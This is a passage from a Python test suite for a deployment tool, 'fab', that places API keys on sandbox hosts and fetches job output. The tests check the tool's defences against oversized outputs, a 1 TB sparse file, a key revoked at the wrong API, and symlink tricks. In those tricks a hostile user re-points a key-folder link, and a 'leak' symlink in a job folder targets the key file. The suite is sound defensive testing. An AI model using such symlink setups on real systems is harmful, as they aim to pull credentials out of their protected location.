    host's row is shown; RSS bounded."""
    sbx = make_sandbox(hosts=2, api=False)
    good = sbx.container("sbx-2")
    write_as(good, job_dir(good, "fine") / "status.json",
             json.dumps({"state": "finished", "total": 1, "done": 1, "failed": 0}), 0o600)
    _, usual_mb = fab_rss(sbx, "status")  # the same command, every answer small
    plant_python(sbx.container("sbx-1"), {"jobs": GIANT_ANSWER})
    result, rss_mb = fab_rss(sbx, "status")
    # The answer's cap (a few MB) may cost a little; holding the 300 MB answer never fits.
    assert rss_mb - usual_mb < 40, f"fab status peaked at {rss_mb} MB (usually {usual_mb} MB)\n" \
        + explain(result)
    text = " ".join(result.text.split())
    assert "fine" in text and "sbx-2" in text, explain(result)
    assert "MB" in text and ("too large" in text or "more than" in text), explain(result)
    assert result.rc != 0
    no_traceback(result)


def test_a_50_mb_log_line_keeps_logs_follow_small(make_sandbox, fab) -> None:
    """Finding 10b: one 50 MB line in a job's log under `logs --follow`."""
    sbx = make_sandbox(hosts=1, api=False)
    c = sbx.container("sbx-1")
    write_as(c, job_dir(c, "small") / "log", "start\n" + "y" * 100 + "\nafter\n", 0o600)
    _, usual_mb = fab_rss(sbx, "logs", "--follow", "--job", "small", interrupt_when="after",
                          interrupt_after_s=40)
    write_as(c, job_dir(c, "j") / "log", "start\n" + "y" * (50 << 20) + "\nafter\n", 0o600)
    result, rss_mb = fab_rss(sbx, "logs", "--follow", "--job", "j", interrupt_when="after",
                             interrupt_after_s=40)
    # Holding the 50 MB line even once would cost 50 MB more than a small log does.
    assert rss_mb - usual_mb < 25, f"fab logs --follow peaked at {rss_mb} MB (usually " \
        f"{usual_mb} MB)\n" + explain(result)[:3000]
    assert "after" in result.out and "start" in result.out, explain(result)[:3000]
    assert len(result.out) < 5 << 20, "the 50 MB line was printed whole"
    no_traceback(result)


def test_fetch_refuses_a_file_bigger_than_the_free_space(make_sandbox, fab, tmp_path: Path) -> None:
    """Finding 10c: a 1 TB sparse file in a job folder, fetched to a 64 MB destination."""
    sbx = make_sandbox(hosts=1, api=False)
    c = sbx.container("sbx-1")
    folder = job_dir(c, "big")
    write_as(c, folder / "output.jsonl", '{"id": "a"}\n', 0o600)
    run_as(c, "truncate", "-s", "1T", str(folder / "huge.bin"))
    dest = tmp_path / "dest"
    dest.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64m", "tmpfs", str(dest)],
                             capture_output=True, check=False)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs here: {mounted.stderr.decode().strip()}")
    try:
        result = fab.on(sbx, "fetch", "--dest", str(dest), timeout=120)
        written = sum(p.stat().st_size for p in dest.rglob("*") if p.is_file())
    finally:
        subprocess.run(["umount", "-l", str(dest)], check=False)
    assert result.rc != 0, explain(result)
    text = " ".join(result.text.split())
    assert "huge.bin" in text and "free" in text and "1.1 TB" in text, explain(result)
    assert written < 1 << 20, f"{written} bytes written before refusing"
    no_traceback(result)


# -- 11. a host known only from the ledger ------------------------------------------------------------

def test_cleanup_of_a_host_known_only_from_the_ledger_never_calls_the_default_api(
        make_sandbox, fab) -> None:
    """Finding 11: the host left the inventory (and the remembered targets); its child key
    is revoked at the URL recorded when it was minted, never at the built-in default."""
    sbx = minted(make_sandbox, 2)
    deploy = fab.on(sbx, "deploy")
    assert deploy.rc == 0, explain(deploy)
    data = yaml.safe_load(sbx.inventory.read_text())
    del data["hosts"]["sbx-1"]
    sbx.inventory.write_text(yaml.safe_dump(data, sort_keys=False))
    (sbx.state_dir / "targets.json").unlink(missing_ok=True)
    with ConnectRecorder() as proxy:
        env = {"HTTPS_PROXY": proxy.url, "https_proxy": proxy.url}
        runs = [fab.on(sbx, "status", "--host", "sbx-1", env=env),
                fab.on(sbx, "cleanup-secrets", env=env)]
        assert proxy.asked == [], f"tried to reach {proxy.asked} with the management key"
    assert runs[1].rc == 0, explain(runs[1])
    assert sbx.api.keys.live() == [], explain(runs[1])
    assert all(not key_file(c).exists() for c in sbx.containers)
    no_traceback(*runs)


# -- 12. key folders ---------------------------------------------------------------------------------------

def test_a_symlinked_key_folder_is_refused(make_sandbox, fab, tmp_path: Path) -> None:
    """Finding 12a: the key folder is a symlink another user owns (and re-points later)."""
    sbx = make_sandbox(hosts=1)
    c = sbx.container("sbx-1")
    shared = shared_dir()
    try:
        with other_user(tmp_path) as mallory:
            owned_dirs(mallory, shared / "pub", shared / "elsewhere")
            mine = Path(c.home) / "keys"
            run_as(c, "mkdir", "-m", "0700", str(mine))
            as_user(mallory, "ln", "-s", str(mine), str(shared / "pub" / "link"))
            set_host_vars(sbx, "sbx-1", key_path=str(shared / "pub" / "link" / "openrouter.key"))
            deploy = fab.on(sbx, "deploy")
            # Mallory re-points the link: a cleanup following it would find nothing.
            (shared / "pub" / "link").unlink()
            as_user(mallory, "ln", "-s", str(shared / "elsewhere"), str(shared / "pub" / "link"))
            cleanup = fab.on(sbx, "cleanup-secrets")
            left = [p for p in mine.iterdir() if p.name.startswith("openrouter.key")]
            assert left == [] or cleanup.rc != 0, "cleanup said clean, the key stays\n" \
                + explain(cleanup)
            assert left == [], explain(deploy)
            assert deploy.rc != 0 and "symlink" in deploy.text, explain(deploy)
            no_traceback(deploy, cleanup)
    finally:
        shutil.rmtree(shared, ignore_errors=True)


def test_placement_leaves_a_folder_it_did_not_create_alone(make_sandbox, fab) -> None:
    """Finding 12b: key_path in an existing folder of the user's: no chmod of that folder."""
    sbx = make_sandbox(hosts=1)
    c = sbx.container("sbx-1")
    mine = Path(c.home) / "projects"
    run_as(c, "mkdir", "-m", "0755", str(mine))
    run_as(c, "chmod", "0755", str(mine))
    set_host_vars(sbx, "sbx-1", key_path=str(mine / "openrouter.key"))
    deploy = fab.on(sbx, "deploy")
    assert deploy.rc == 0, explain(deploy)
    assert stat.S_IMODE(mine.stat().st_mode) == 0o755, oct(mine.stat().st_mode)
    assert stat.S_IMODE((mine / "openrouter.key").stat().st_mode) == 0o600
    cleanup = fab.on(sbx, "cleanup-secrets")
    assert cleanup.rc == 0 and not (mine / "openrouter.key").exists(), explain(cleanup)


# -- 13. job data is private, and a symlink to the key is never fetched ----------------------------------

def test_job_folders_are_private_to_the_login_user(make_sandbox, fab, tmp_path: Path) -> None:
    """Finding 13a: job folders 0700, their files 0600; remote_dir 0700."""
    sbx = make_sandbox(hosts=1)
    deploy = fab.on(sbx, "deploy")
    assert deploy.rc == 0, explain(deploy)
    launch = fab.on(sbx, "launch", "--input", str(prompts(tmp_path / "p.jsonl", 3)))
    assert launch.rc == 0, explain(launch)
    waited = fab.on(sbx, "status", "--wait", timeout=120)
    assert waited.rc == 0, explain(waited)
    c = sbx.container("sbx-1")
    rd = remote_dir(c)
    assert stat.S_IMODE(rd.stat().st_mode) & 0o077 == 0, oct(rd.stat().st_mode)
    jobs = rd / "jobs"
    loose = {str(p): oct(stat.S_IMODE(p.lstat().st_mode)) for p in [jobs, *jobs.rglob("*")]
             if not p.is_symlink() and stat.S_IMODE(p.lstat().st_mode) & 0o077}
    assert loose == {}, loose
    assert any(p.name == "output.jsonl" for p in jobs.rglob("*"))


def test_a_symlink_in_a_job_folder_is_never_followed(make_sandbox, fab, tmp_path: Path) -> None:
    """Finding 13b: `jobs/j/leak -> the key file`: fetch names it and refuses it."""
    sbx = make_sandbox(hosts=1)
    deploy = fab.on(sbx, "deploy")
    assert deploy.rc == 0, explain(deploy)
    c = sbx.container("sbx-1")
    folder = job_dir(c, "j")
    write_as(c, folder / "output.jsonl", '{"id": "a"}\n', 0o600)
    run_as(c, "ln", "-s", str(key_file(c)), str(folder / "leak"))
    dest = tmp_path / "dest"
    result = fab.on(sbx, "fetch", "--dest", str(dest))
    fetched = {str(p): p.read_bytes() for p in dest.rglob("*") if p.is_file()}
    assert find_key(sbx.api_key, fetched) == [], "the key landed on the workstation's disk"
    assert result.rc != 0, explain(result)
    assert "leak" in result.text and "symlink" in result.text, explain(result)
    assert (dest / "sbx-1" / "j" / "output.jsonl").exists()
    no_traceback(result)
